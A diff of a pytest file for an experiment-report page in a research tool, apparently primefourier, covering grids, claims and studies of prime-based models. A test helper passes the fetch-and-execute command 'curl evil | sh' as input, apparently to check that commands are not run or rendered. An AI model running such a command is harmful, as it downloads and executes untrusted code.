@@ -19,14 +19,20 @@ from lab_records import (
     failed,
     measured,
     plausible,
+    run_of,
+    studies_of,
+    with_fields,
     with_probe,
 )
-from primefourier.lab import Run
+from prime_models import input_range, modulus
+from primefourier.lab import Axis, LearnedTable, Run, Study
 from primefourier.lab.claim_tables import claims_as_data
 from primefourier.lab.config import ModelConfig
+from primefourier.lab.parts import describe_part
 from primefourier.lab.record import Record
+from primefourier.lab.studies import SinglePrime
 from primefourier.lab.studies.question_tables import answers_as_data
-from small_models import small_config
+from small_models import small_config, small_study
 
 TITLES = ["Experiment 1", "Control (PFE-Shuffled)", "Experiment 2"]
 SIZES, RANGES = [4, 6, 8, 10, 12, 14, 16], [100, 500, 1000, 2000, 4000]
@@ -40,7 +46,13 @@ SEVERAL_CELLS = ("E1.6", "E2.4", "T.1")
 def page_of(
     planned: Sequence[ModelConfig], records: Sequence[Record] = (), folder: Path = Path("mine")
 ) -> dict[str, Any]:
-    data = Run(planned, records, ["curl evil | sh"], folder).page_data()
+    return data_of(studies_of(planned), records, folder)
+
+
+def data_of(
+    studies: Sequence[Study], records: Sequence[Record] = (), folder: Path = Path("mine")
+) -> dict[str, Any]:
+    data = Run(studies, records, ["curl evil | sh"], folder).page_data()
     assert json.loads(json.dumps(data, allow_nan=False)) == data
     return data
 
@@ -83,13 +95,13 @@ def test_the_papers_grids_are_complete_before_anything_is_measured(
     assert (data["finished"], data["seconds"]) == (None, 0)
     assert (data["commits"], data["versions"], data["machines"]) == ([], {}, [])
     for grid, full, rows in zip(data["grids"], paper["grids"], (SIZES, SIZES, MODULI), strict=True):
-        assert (grid["rows"], grid["ranges"], grid["seeds"]) == (rows, RANGES, [42])
-        places = [(cell["row"], cell["range"]) for cell in grid["cells"]]
+        assert (grid["rows"], grid["columns"], grid["seeds"]) == (rows, RANGES, [42])
+        places = [(cell["row"], cell["column"]) for cell in grid["cells"]]
         assert places == list(product(rows, RANGES))
         for cell, same in zip(grid["cells"], full["cells"], strict=True):
             assert (cell["degenerate"], cell["floor"]) == (same["degenerate"], same["floor"])
     crossed = [
-        (cell["row"], cell["range"]) for cell in data["grids"][2]["cells"] if cell["degenerate"]
+        (cell["row"], cell["column"]) for cell in data["grids"][2]["cells"] if cell["degenerate"]
     ]
     assert crossed == [(231, 100), (385, 100)]
 
@@ -101,17 +113,24 @@ def test_each_grid_names_its_axes_and_measures(paper: dict[str, Any]) -> None:
         assert (grid["row_name"], grid["row_option"]) == ("|P|", "--sizes")
         assert grid["row_label"] == "number of primes |P|"
         assert (grid["threshold"], grid["paper"]) == (0.85, True)
+        assert grid["model_name"] == "p", "one model for each task prime"
+    for grid, begins in zip(grids, ("Trained modulo a prime", "The same", "Trained"), strict=True):
+        assert grid["expectation"].startswith(begins)
+        assert (grid["column_name"], grid["column_label"]) == ("r", "input range r")
+        assert grid["column_option"] == "--ranges"
     last = grids[2]
     assert (last["row_name"], last["row_option"]) == ("N", "--moduli")
     assert (last["row_label"], last["threshold"]) == ("modulus N", 0.70)
+    assert last["model_name"] == ""
 
 
 def test_a_cell_has_the_numbers_of_the_run() -> None:
     configs = configs_of("exp1", sizes=(4,), ranges=(100,), seeds=(3, 1, 2))
-    records = [r for r in plausible(configs) if (r.config.seed, r.config.modulus) != (3, 7)]
-    (cell,) = Run(configs, records).cells()["exp1"]
+    records = [r for r in plausible(configs) if (r.config.seed, modulus(r.config)) != (3, 7)]
+    (cell,) = run_of(configs, records).cells()["exp1"]
     data = cell_of(configs, records)
-    assert (data["row"], data["range"], data["state"]) == (4, 100, "measured")
+    assert (data["row"], data["column"], data["state"]) == (4, 100, "measured")
+    assert data["beyond"] == {}
     assert (data["seeds"], data["asked_seeds"]) == ([1, 2], [1, 2, 3])
     for name, interval in (
         ("relevant", cell.relevant),
@@ -134,8 +153,9 @@ def test_a_model_is_given_in_counts() -> None:
     assert run["lost"] == [8000, 4000, 0, 0, 0, 0, 0, 0]
     assert run["gained"] == [0, 0, 2000, 0, 0, 0, 0, 0]
     assert run["p_values"] == pytest.approx(record.measured.p_values, rel=0.06)
-    assert (run["modulus"], run["seed"], run["test"], run["correct"]) == (15, 7, 16000, 12000)
-    assert (run["primes"], run["relevant"]) == ([3, 5, 7, 11, 13, 17, 19, 23], [3, 5])
+    assert (run["name"], run["seed"], run["test"], run["correct"]) == ("15", 7, 16000, 12000)
+    assert run["rows"] == ["3", "5", "7", "11", "13", "17", "19", "23"]
+    assert run["relevant"] == ["3", "5"]
     assert (len(run["curve"]), max(run["curve"]), run["curve"][-1]) == (40, 14000, 12000)
     assert run["seconds"] == 1.5
 
@@ -176,38 +196,112 @@ def test_failed_models_are_counted_and_listed() -> None:
     records = [*plausible(EXP1[1:4]), failed(EXP1[0], error)]
     data = page_of(EXP1[:5], records)
     assert data["counts"] == {"planned": 5, "measured": 3, "failed": 1, "waiting": 1}
-    model = "exp1 N=3 r=100 |P|=4 seed=42"
+    model = "a+b mod 3 r=100 |P|=4 seed=42"
     assert data["failures"] == [{"model": model, "error": records[-1].error}]
 
 
 def test_other_settings_have_grids_after_the_papers() -> None:
-    odd = configs_of("exp1", primes=(2, 3), sizes=(2,), ranges=(30,))
-    odd += configs_of("exp1", primes=(2, 3), sizes=(1,), ranges=(60,))
-    slow = [replace(config, trainer="plain") for config in EXP2[:1]]
+    pool = configs_of("exp1", primes=(2, 3), sizes=(1, 2), ranges=(30, 60))
+    odd = [c for c in pool if (len(c.row_names), input_range(c)) in ((2, 30), (1, 60))]
+    own = Study(
+        SinglePrime.name_of(odd), odd, SinglePrime.title_of(odd), SinglePrime.paper_axes(), 0.85
+    )
+    slow = [with_fields(config, trainer="plain") for config in EXP2[:1]]
     beyond = configs_of("exp1", sizes=(5,), ranges=(50,), seeds=(9, 3))
-    planned = [*odd, *slow, *beyond, small_config(experiment="something else")]
-    data = page_of(planned, plausible(planned[:-1]))
+    data = data_of([own, *studies_of([*slow, *beyond])], plausible([*odd, *slow, *beyond]))
     assert [grid["title"] for grid in data["grids"]] == [
         *TITLES,
         "Experiment 1, primes 2, 3",
-        "Experiment 2, plain trainer",
+        "Experiment 2, trainer plain",
     ]
     assert [grid["paper"] for grid in data["grids"]] == [True, True, True, False, True]
-    assert data["counts"]["planned"] == len(planned), "including those that no grid shows"
+    assert data["counts"]["planned"] == len([*odd, *slow, *beyond])
     first, _, _, other, plain = data["grids"]
-    assert (first["rows"], first["ranges"]) == ([4, 5, *SIZES[1:]], [50, *RANGES])
+    assert (first["rows"], first["columns"]) == ([4, 5, *SIZES[1:]], [50, *RANGES])
     assert first["seeds"] == [3, 9]
-    assert (other["rows"], other["ranges"]) == ([1, 2], [30, 60])
+    assert (other["rows"], other["columns"]) == ([1, 2], [30, 60])
     assert [cell["state"] for cell in other["cells"]] == [
         "missing", "measured", "measured", "missing",
     ]  # fmt: skip
+    assert other["command"] == ["pfe", "run", "exp1", "--primes", "2,3"]
     assert plain["command"] == ["pfe", "run", "exp2", "--trainer", "plain"]
-    assert (plain["rows"], plain["ranges"]) == ([15], [100])
+    assert (plain["rows"], plain["columns"]) == ([15], [100])
+
+
+# Studies that are not the paper's.
+
+
+def test_a_study_of_ones_own_has_its_axes_and_no_commands_or_claims() -> None:
+    configs = [small_config(modulus=n, input_range=r) for n in (3, 15) for r in (30, 50)]
+    study = replace(small_study(*configs), title="<b>Mine")
+    data = data_of([study], [*plausible(configs[:3]), failed(configs[3])])
+    (grid,) = data["grids"]
+    assert (grid["title"], grid["expectation"], grid["paper"]) == ("<b>Mine", "", False)
+    assert (grid["row_name"], grid["rows"]) == ("modulus", [3, 15])
+    assert (grid["column_name"], grid["columns"]) == ("input range", [30, 50])
+    assert (grid["command"], grid["row_option"], grid["column_option"]) == ([], "", "")
+    assert (grid["model_name"], grid["threshold"]) == ("", 0.85)
+    assert [cell["state"] for cell in grid["cells"]] == ["measured"] * 3 + ["failed"]
+    (run,) = grid["cells"][0]["runs"]
+    assert run["name"] == configs[0].describe()
+    assert (run["rows"], run["relevant"]) == (["3", "5", "7"], ["3"])
+    assert data["counts"] == {"planned": 4, "measured": 3, "failed": 1, "waiting": 0}
+    assert (data["claims"], data["commands"], data["continue"]) == ([], [], [])
+    assert data["questions"] is None
+
+
+def test_the_papers_claims_are_shown_beside_a_study_of_ones_own() -> None:
+    own = small_study(small_config())
+    data = data_of([own, *studies_of(FOUR)], plausible([*own.configs, *FOUR]))
+    assert [grid["title"] for grid in data["grids"]] == ["Experiment 1", "small"]
+    assert data["commands"] == ["pfe run exp1 --sizes 4 --ranges 100"]
+    first = data["claims"][0]
+    assert (first["claim"], first["evidence"][0]["cell"]) == ("E1.1", [0, 4, 100])
+
+
+def test_models_that_share_a_cell_are_told_apart_by_their_description() -> None:
+    configs = [small_config(epochs=epochs) for epochs in (1, 2)]
+    study = Study("mine", configs, axes=[Axis("task.modulus")])
+    (grid,) = data_of([study], plausible(configs))["grids"]
+    (cell,) = grid["cells"]
+    assert (grid["model_name"], grid["columns"], cell["column"]) == ("model", [""], "")
+    assert [run["name"] for run in cell["runs"]] == [config.describe() for config in configs]
+
+
+def test_rows_of_which_nothing_is_predicted_have_no_relevant_drop() -> None:
+    config = replace(small_config(), embedding=LearnedTable(size=30, width=4, row_count=2))
+    (grid,) = data_of([small_study(config)], [measured(config, [0.5, 0.25])])["grids"]
+    (cell,) = grid["cells"]
+    assert (cell["relevant"], cell["ratio"]) == (None, None)
+    assert cell["other"]["mean"] == pytest.approx(0.375, abs=1 / 180)
+    (run,) = cell["runs"]
+    assert (run["rows"], run["relevant"]) == (["row 1", "row 2"], [])
+
+
+def test_accuracy_beyond_the_range_is_part_of_a_cell() -> None:
+    config = small_config(beyond=(100, 10**30), beyond_samples=4)
+    counts = measured(small_config(), [0.5, 0.25, 0.0]).measured
+    counts = replace(counts, beyond={"100": (3, 4), str(10**30): (1, 4)})
+    record = Record(config=config, provenance=PROVENANCE, measurement=counts)
+    (grid,) = data_of([small_study(config)], [record])["grids"]
+    assert grid["cells"][0]["beyond"] == {"100": 0.75, str(10**30): 0.25}
+
+
+def test_models_with_unknown_parts_are_shown() -> None:
+    known = small_config()
+    strange = json.loads(json.dumps(known.to_dict()))
+    strange["task"] |= {"name": "of somebody else"}
+    config = ModelConfig.from_dict(strange)
+    record = replace(measured(known, [0.5, 0.0, 0.0]), config=config)
+    data = data_of([small_study(config, known)], [record])
+    (grid,) = data["grids"]
+    assert [cell["state"] for cell in grid["cells"]] == ["waiting", "measured"]
+    assert data["grids"][0]["rows"] == ["a+b mod 5 r=30", describe_part(config.task)]
 
 
 def test_questions_are_answered_where_networks_are_probed() -> None:
     records = [*map(with_probe, plausible(FOUR))]
-    answers = Run(FOUR, records).questions()
+    answers = run_of(FOUR, records).questions()
     assert answers is not None
     assert page_of(FOUR, records)["questions"] == answers_as_data(answers)
 
@@ -256,7 +350,7 @@ def test_the_claims_are_those_of_the_run(paper: dict[str, Any]) -> None:
         assert claim.pop("verdict_so_far") == claim["verdict"]
         for evidence in claim["evidence"]:
             evidence.pop("cell")
-    assert claims == claims_as_data(Run(PAPER, plausible(PAPER)).claims())
+    assert claims == claims_as_data(run_of(PAPER, plausible(PAPER)).claims())
 
 
 def test_every_piece_of_evidence_points_to_the_cell_it_names(paper: dict[str, Any]) -> None:
@@ -274,12 +368,12 @@ def test_every_piece_of_evidence_points_to_the_cell_it_names(paper: dict[str, An
 
 
 def test_evidence_of_the_plain_trainer_points_to_its_grid() -> None:
-    plain = [replace(c, trainer="plain") for c in (*EXP1[:8], *CONTROL[:4], *EXP2[:1])]
+    plain = [with_fields(c, trainer="plain") for c in (*EXP1[:8], *CONTROL[:4], *EXP2[:1])]
     data = page_of([*EXP1[:4], *plain], plausible([*EXP1[:4], *plain]))
     found = {c["claim"]: [e["cell"] for e in c["evidence"]] for c in data["claims"]}
     assert [cell[1:] for cell in found["E1.1"]] == [[4, 100], [4, 500]]
     titles = [[data["grids"][cell[0]]["title"] for cell in found[c]] for c in ("E1.1", "C.1")]
-    slow = [f"{title}, plain trainer" for title in TITLES]
+    slow = [f"{title}, trainer plain" for title in TITLES]
     assert titles == [["Experiment 1", slow[0]], [slow[1]]]
     first = data["claims"][0]
     assert (first["verdict"], first["verdict_so_far"]) == ("holds", "holds so far")
